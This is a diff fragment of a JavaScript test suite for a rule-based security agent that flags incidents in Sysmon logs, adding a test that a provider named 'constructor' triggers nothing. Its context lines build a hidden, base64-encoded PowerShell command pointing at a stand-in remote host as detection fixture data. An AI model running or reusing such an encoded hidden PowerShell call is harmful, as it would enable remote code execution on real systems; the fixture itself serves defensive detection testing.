@@ -44,6 +44,12 @@ const script = `$u='${Buffer.from('http://203.0.113.66:443', 'utf16le').toString
 const encoded = `powershell.exe -NonI -W Hidden -Enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
 
 describe('security agent by rules', () => {
+  it('given a record of a provider that is called like what every object has, when rules look at it, then they find nothing', () => {
+    const text = sysmonXml(1, shellOfJava).replace('Name="Linux-Sysmon"', 'Name="constructor"');
+
+    expect(incidents([text])).toEqual([]);
+  });
+
   it.each([
     ['java starts a shell', sysmonXml(1, shellOfJava), 'java-starts-shell', []],
     [
